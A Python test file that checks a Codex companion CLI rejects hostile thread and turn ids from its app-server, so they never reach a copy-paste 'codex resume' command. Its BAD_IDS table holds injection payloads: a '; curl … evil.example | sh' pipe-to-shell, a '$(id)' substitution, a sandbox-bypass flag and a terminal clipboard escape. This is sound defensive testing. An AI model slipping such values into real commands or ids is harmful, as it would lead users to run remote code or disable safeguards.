"""Fault: ids from the app-server were trusted.

The thread and turn ids Codex sends were stored and printed unchecked, among others inside the
copy-this line `codex resume <id>` and transfer's `resumeCommand`: an id ending in `; curl … | sh`
became a command for the user to paste. Every id we receive (thread/start, thread/resume,
review/start's reviewThreadId, subagent threads, turn ids, transfer's imported thread) now passes
the rule of the ids we accept (`task --resume-thread`: letters, digits, `-_.:`, at most 128); a bad
one is a protocol error for that job (failed, one clear error line, the id never printed).
Through the shared broker and a direct app-server.
"""

import os
import signal
import unittest

from companion_testlib import processes_with_env
from hooks_support import HookCase
from security_support import FakeCodexCase, hostile

BAD_IDS = {
    "a command after ;": "019a-thread; curl -s evil.example | sh",
    "a newline": "thr-1\nResume in Codex: codex resume $(id)",
    "a leading dash": "--dangerously-bypass-approvals-and-sandbox",
    "an escape sequence": "thr-\x1b]52;c;ZXZpbA==\x07",
    "129 characters": "a" * 129,
}
MARKERS = ("evil.example", "$(id)", "dangerously", "ZXZpbA==", "a" * 129)


class IdsCase(FakeCodexCase):
    mode = "normal"

    def setUp(self):
        super().setUp()
        self.make_repo()
        if self.mode != "normal":
            self.env["FAKE_APP_SERVER_MODE"] = self.mode

    def tearDown(self):
        if self.runtime is None and self.state_dirs():
            self.run_cli("broker", "stop", "--force")
            leftovers = processes_with_env("FAKE_APP_SERVER_LOG", self.app_server_log)
            for pid in leftovers:
                os.kill(pid, signal.SIGKILL)
            self.assertEqual(leftovers, [], "processes outlived the test")
        super().tearDown()

    def assert_refused_job(self, proc, what, thread_is_plain=False):
        """The command failed with one line naming the protocol error (the last on stderr, after
        the [codex] progress lines of a foreground run); the id is nowhere."""
        self.assertEqual(proc.returncode, 1, proc.stderr)
        lines = proc.stderr.splitlines()
        ours = [line for line in lines if line.startswith("codex-companion:")]
        self.assertEqual(len(ours), 1, proc.stderr)
        self.assertEqual(ours[0], lines[-1])
        self.assertIn("protocol error", ours[0])
        self.assertIn(what, ours[0])
        self.assert_never_shown(proc.stdout + proc.stderr)
        report = self.run_json("status")
        job = self.run_json("status", report["latestFinished"]["id"])["job"]
        self.assertEqual((job["status"], job["endReason"]), ("failed", "error"), job)
        for args in (("result", job["id"]), ("status", job["id"]), ("status",)):
            shown = self.run_cli(*args)
            self.assert_never_shown(shown.stdout + shown.stderr)
            if not thread_is_plain:  # a plain thread of the job's may be shown to resume
                self.assertNotIn("codex resume", shown.stdout)
        self.assertEqual(self.lock_files(), [])

    def assert_never_shown(self, text):
        for marker in MARKERS:
            self.assertNotIn(marker, text)


class IdsDirect(IdsCase):
    def test_thread_id_from_thread_start(self):
        for name, bad in BAD_IDS.items():
            with self.subTest(id=name), hostile("app-server id: thread/start's thread id"):
                proc = self.run_cli("task", "look around",
                                    env={"FAKE_APP_SERVER_THREAD_ID": bad})
                self.assert_refused_job(proc, "thread/start")

    def test_thread_id_from_thread_resume(self):
        with hostile("app-server id: thread/resume's thread id"):
            proc = self.run_cli("task", "--resume-thread", "thr-known", "go on",
                                env={"FAKE_APP_SERVER_THREAD_ID": BAD_IDS["a command after ;"]})
            self.assert_refused_job(proc, "thread/resume")

    def test_turn_id_from_turn_start(self):
        with hostile("app-server id: turn/start's turn id"):
            proc = self.run_cli("task", "look around",
                                env={"FAKE_APP_SERVER_TURN_ID": BAD_IDS["a newline"]})
            self.assert_refused_job(proc, "turn/start", thread_is_plain=True)

    def test_review_thread_id_from_review_start(self):
        with hostile("app-server id: review/start's reviewThreadId"):
            proc = self.run_cli("review", "--wait", env={
                "FAKE_APP_SERVER_REVIEW_THREAD_ID": BAD_IDS["a command after ;"]})
            self.assert_refused_job(proc, "reviewThreadId", thread_is_plain=True)

    def test_background_job_with_a_bad_thread_id(self):
        with hostile("app-server id: thread id of a background job"):
            launched = self.run_json("task", "--background", "look around",
                                     env={"FAKE_APP_SERVER_THREAD_ID": BAD_IDS["a newline"]})
            job = self.run_json("status", launched["jobId"], "--wait", "--timeout-ms",
                                "30000")["job"]
            self.assertEqual((job["status"], job["endReason"]), ("failed", "error"), job)
            self.assertIn("protocol error", job["errorMessage"])
            self.assertIsNone(job["threadId"])
            shown = self.run_cli("result", launched["jobId"])
            self.assert_never_shown(shown.stdout + shown.stderr)

    def test_a_plain_id_still_works(self):
        proc = self.run_cli("task", "look around", env={"FAKE_APP_SERVER_THREAD_ID": "019a-7f:x.y_z"})
        self.assertEqual(proc.returncode, 0, proc.stderr)
        self.assertIn("codex resume 019a-7f:x.y_z", proc.stderr)


class SubagentIdsDirect(IdsCase):
    mode = "subagents"

    def test_subagent_thread_id(self):
        with hostile("app-server id: a subagent's thread id"):
            proc = self.run_cli("task", "delegate",
                                env={"FAKE_APP_SERVER_SUBAGENT_ID": BAD_IDS["a command after ;"]})
            self.assert_refused_job(proc, "subagent thread id", thread_is_plain=True)


class IdsShared(IdsCase):
    runtime = None  # the workspace's broker
    mode = "multi"

    def test_thread_id_through_the_broker(self):
        with hostile("app-server id: thread id through the shared broker"):
            proc = self.run_cli("task", "look around", timeout=60,
                                env={"FAKE_APP_SERVER_THREAD_ID": BAD_IDS["a command after ;"]})
            self.assert_refused_job(proc, "thread/start")

    def test_subagent_thread_id_through_the_broker(self):
        with hostile("app-server id: subagent thread id through the shared broker"):
            proc = self.run_cli("task", "[[fake:subagent]] delegate", timeout=60,
                                env={"FAKE_APP_SERVER_SUBAGENT_ID": BAD_IDS["a newline"]})
            self.assert_refused_job(proc, "subagent thread id", thread_is_plain=True)


class TransferImportedThread(HookCase):
    def test_imported_thread_id(self):
        for number, (name, bad) in enumerate(BAD_IDS.items()):
            transcript = self.write_transcript(name=f"session-{number}")
            with self.subTest(id=name), hostile("app-server id: transfer's imported thread"):
                for args in ((), ("--json",)):
                    proc = self.run_cli("transfer", "--source", transcript, *args, timeout=60,
                                        env={"FAKE_APP_SERVER_IMPORT_THREAD": bad})
                    self.assert_one_line_error(proc, "not a plain id")
                    for marker in MARKERS:
                        self.assertNotIn(marker, proc.stdout + proc.stderr)
                    self.assertNotIn("codex resume", proc.stdout)


if __name__ == "__main__":
    unittest.main()
